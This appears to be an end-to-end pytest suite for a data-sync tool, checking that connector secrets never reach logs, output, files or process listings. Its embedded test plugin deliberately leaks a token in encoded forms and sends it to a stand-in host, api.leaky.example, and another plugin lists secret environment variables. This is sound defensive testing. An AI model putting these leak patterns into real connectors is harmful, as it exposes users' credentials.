"""A secret's value is in the keyring and in the connector's process, and nowhere else, whatever a connector does."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from kpiterm.sandbox import Sandbox
    from tests.e2e.conftest import Home

pytestmark = pytest.mark.e2e

TOKEN = 'Sup3r/Secret+"Väl ue"==&x'
KEY = "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nAASCBKcwggSjAgEAAoIBAQC7VJTU\n-----END KEY-----"
# As they are, and as logs, URLs and documents spell them.
TRACES = ("Sup3r", "Secret+", "V\u00e4l", "U3VwM3Iv", "MIIEvQ", "AASCBKcw")

LEAKS = """
import base64, json, sys, urllib.parse, warnings
SHAPE = Shape(columns={"a": "INTEGER"}, outputs=(Output(
    into="health_metric", replaces=("metric",), select="SELECT _payload, 'x' AS metric, a AS numerator FROM source"),))

def forms(ctx):
    token = ctx.secrets["token"]
    yield token
    yield repr(token)
    yield json.dumps({"token": token})
    yield urllib.parse.quote(token)
    yield urllib.parse.quote_plus(token, safe="")
    yield base64.b64encode(b"user:" + token.encode()).decode()
    yield repr(dict(ctx.secrets))
    yield ctx.secrets["key"]

def everywhere(ctx, window):
    for text in forms(ctx):
        ctx.log(text)
        print(text)
        print(text, file=sys.stderr)
        warnings.warn(text)
        yield Payload(body=b'[{"a": 1}]', format="json", request=f"GET /x?{text}")

def raising(ctx, window):
    raise ValueError(" ".join(forms(ctx)))

def telling(ctx, window):
    raise DataError(" ".join(forms(ctx)), hint=" ".join(forms(ctx)))

def asking(ctx, window):
    ctx.http.get("https://api.leaky.example/" + ctx.secrets["token"])

def crashing(ctx, window):
    sys.stderr.write("".join(forms(ctx)))
    sys.stderr.flush()
    import os
    os._exit(9)

def probes(ctx):
    for text in forms(ctx):
        yield Probe(text, False, text)
    raise ValueError(ctx.secrets["token"])

CONNECTOR = connector(
    streams=tuple(Stream(name=f.__name__, title="", fetch=f, shape=SHAPE)
                  for f in (everywhere, raising, telling, asking, crashing)),
    secrets=(Secret(name="token", help="t"), Secret(name="key", help="k")), test=probes)
"""


def assert_hidden(text: str) -> None:
    assert [trace for trace in TRACES if trace in text] == []


def test_a_connector_that_leaks_everywhere(
    home: Home, until: Callable[..., None], open_box: Callable[..., Sandbox]
) -> None:
    home.plugin("leaky", LEAKS)
    home.declare("bad", "leaky", sandbox=open_box().url, token=TOKEN, key=KEY)
    process = home.start("sync", "--events", "jsonl", "--stream", "everywhere")
    seen: set[str] = set()

    def ended() -> bool:
        seen.update(command_lines())
        return process.poll() is not None

    until(ended, "the end of the sync")
    out, err = process.communicate()
    assert process.returncode == 0, err
    assert any("kpiterm.sync.worker" in line for line in seen)
    for text in (out, err, *seen):
        assert_hidden(text)
    for command in (["sync", "--json", "--force"], ["sync", "-v", "--force"], ["account", "test", "bad"],
                    ["account", "test", "bad", "--json"], ["runs", "--json", "--limit", "99"], ["status", "--json"],
                    ["query", "SELECT * FROM payload", "--json"], ["query", "SELECT * FROM run", "--json"],
                    ["doctor"]):  # fmt: skip
        done = home(*command)
        assert_hidden(done.out + done.err)
        assert "***" in done.out + done.err or command[0] in ("doctor", "status")
    assert [trace for trace in TRACES if home.files_with(trace)] == []
    assert "***" in (home.paths.logs / "sync.log").read_text()


def command_lines() -> list[str]:
    lines = []
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            lines.append(file.read_bytes().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            continue
    return lines


# A keyring for tests only, as an operator would name it in config.toml.
VAULT = """
import json, os, pathlib
from keyring.backend import KeyringBackend

class Vault(KeyringBackend):
    priority = 1
    file = pathlib.Path(os.environ["HOME"], "vault.json")

    def _load(self):
        return json.loads(self.file.read_text()) if self.file.exists() else {}

    def get_password(self, service, username):
        return self._load().get(f"{service} {username}")

    def set_password(self, service, username, password):
        self.file.write_text(json.dumps(self._load() | {f"{service} {username}": password}))

    def delete_password(self, service, username):
        kept = self._load()
        del kept[f"{service} {username}"]
        self.file.write_text(json.dumps(kept))
"""


@pytest.fixture
def vault(home: Home) -> Callable[[], dict[str, str]]:
    """What the keyring that config.toml names holds."""
    import json

    home.site.mkdir()
    (home.site / "vault.py").write_text(VAULT)
    home.configure('[keyring]\nbackend = "vault.Vault"\n')
    file = Path(home.environment["HOME"]) / "vault.json"
    return lambda: json.loads(file.read_text()) if file.exists() else {}


def test_an_account_from_declaration_to_removal(
    home: Home, vault: Callable[[], dict[str, str]], open_box: Callable[..., Sandbox]
) -> None:
    [account] = open_box().accounts
    settings = [part for key, value in account.settings.items() for part in ("--set", f"{key}={value}")]
    stdin = [part for key in account.secrets for part in ("--secret-stdin", key)]
    secrets = "".join(f"{value}\n" for value in account.secrets.values())
    added = home("account", "add", "amazon", "us-main", *settings, *stdin, "--no-test", stdin=secrets)
    assert added.code == 0, added.err
    assert vault() == {f"kpiterm/default us-main/{key}": value for key, value in account.secrets.items()}
    for value in account.secrets.values():
        assert home.files_with(value) == []
        assert value not in added.out + added.err
    assert home("account", "list", "--json").json["accounts"][0]["name"] == "us-main"
    removed = home("account", "remove", "us-main")
    assert removed.code == 0, removed.err
    assert vault() == {}
    assert home("account", "list", "--json").json["accounts"] == []


def test_an_account_is_tested_role_by_role(home: Home, open_box: Callable[..., Sandbox]) -> None:
    box = open_box()
    home.connect(box, days=30)
    done = home("account", "test", "demo-us", "--json")
    assert done.code == 0, done.out
    assert all(probe["ok"] and probe["detail"] for probe in done.json["probes"])
    assert len(done.json["probes"]) >= 3
    home.environment["KPITERM_SECRET_DEMO_US_REFRESH_TOKEN"] = "Atzr|wrong"
    refused = home("account", "test", "demo-us")
    assert refused.code == 3
    assert "✗" in refused.out
    assert "Atzr|wrong" not in refused.out + refused.err


@pytest.mark.parametrize("key", ["client_secret", "refresh_token", "password", "pin"])
def test_a_secret_on_the_command_line_is_refused(home: Home, vault: object, key: str) -> None:
    home.plugin("odd", "CONNECTOR = connector(secrets=(Secret(name='pin', help='p'),))\n")
    done = home("account", "add", "odd", "one", "--set", f"{key}=hush-hush")
    assert done.code == 2
    assert "hush-hush" not in done.out + done.err
    assert re.search(rf"--secret-stdin {key}", done.err)
    assert home.files_with("hush-hush") == []


def test_a_missing_secret_is_named_with_its_remedy_and_on_the_board(home: Home) -> None:
    home.plugin("odd", "CONNECTOR = connector(secrets=(Secret(name='pin', help='p'),))\n")
    home.declare("one", "odd", pin="1234567")
    assert home("sync").code == 0
    del home.environment["KPITERM_SECRET_ONE_PIN"]
    done = home("sync", "--force")
    assert done.code == 3
    assert "KPITERM_SECRET_ONE_PIN" in done.err
    [account] = home("status", "--json").json["accounts"]
    assert account["status"] == "failed"
    assert "'pin'" in account["error"]
    home.environment["KPITERM_SECRET_ONE_PIN"] = "1234567"
    assert home("sync").code == 0
    assert home("status", "--json").json["accounts"][0]["status"] == "ok"


ROTATES = """
import json, os, pathlib
def rotating(ctx, window):
    ctx.save_secret("token", "fresh-" + ctx.secrets["token"])
    kept = json.loads(pathlib.Path(os.environ["HOME"], "vault.json").read_text())
    ctx.log("after saving: " + str(sorted(v == "fresh-" + ctx.secrets["token"] for v in kept.values())))
    print("fresh-" + ctx.secrets["token"])
    yield from ()
CONNECTOR = connector(streams=(Stream(name="rotating", title="", fetch=rotating),),
                      secrets=(Secret(name="token", help="t"),))
"""


def test_a_rotated_secret_is_in_the_keyring_before_it_is_used(home: Home, vault: Callable[[], dict[str, str]]) -> None:
    home.plugin("turner", ROTATES)
    added = home("account", "add", "turner", "one", "--secret-stdin", "token", "--no-test", stdin="zero-7261\n")
    assert added.code == 0, added.err
    assert home("sync").code == 0
    assert vault() == {"kpiterm/default one/token": "fresh-zero-7261"}
    log = (home.paths.logs / "sync.log").read_text()
    assert "after saving: [True]" in log
    assert "7261" not in log
    assert home.files_with("zero-7261") == []


def test_a_rotated_secret_that_cannot_be_kept_stops_the_stream(home: Home) -> None:
    home.plugin("turner", ROTATES)
    home.declare("one", "turner", token="zero-7261")
    done = home("sync", "--json")
    assert done.code == 6
    error = done.runs()["one", "rotating"]["error"]
    assert "could not be saved" in error["message"]
    assert "7261" not in done.out + done.err


def test_children_do_not_inherit_the_secrets_of_other_accounts(home: Home) -> None:
    home.plugin("nosy", """
        import os
        def look(ctx, window):
            ctx.log("environment: " + str(sorted(k for k in os.environ if "SECRET" in k)))
            yield from ()
        CONNECTOR = connector(streams=(Stream(name="look", title="", fetch=look),))
    """)  # fmt: skip
    home.declare("one", "nosy", token="zero-7261")
    assert home("sync").code == 0
    assert "environment: []" in (home.paths.logs / "sync.log").read_text()


def test_the_workspace_is_for_its_owner_only(home: Home) -> None:
    home.plugin("calm", "CONNECTOR = connector()\n")
    home.declare("one", "calm")
    assert home("sync").code == 0
    open_to_others = [
        path for path in home.paths.root.rglob("*") if path.stat().st_mode & 0o077 and not path.is_symlink()
    ]
    listing = subprocess.run(["ls", "-lR", home.paths.root], capture_output=True, text=True, check=True).stdout
    assert home.paths.root.stat().st_mode & 0o077 == 0, listing
    assert [path for path in open_to_others if path.is_dir() or path.suffix == ".duckdb"] == [], listing
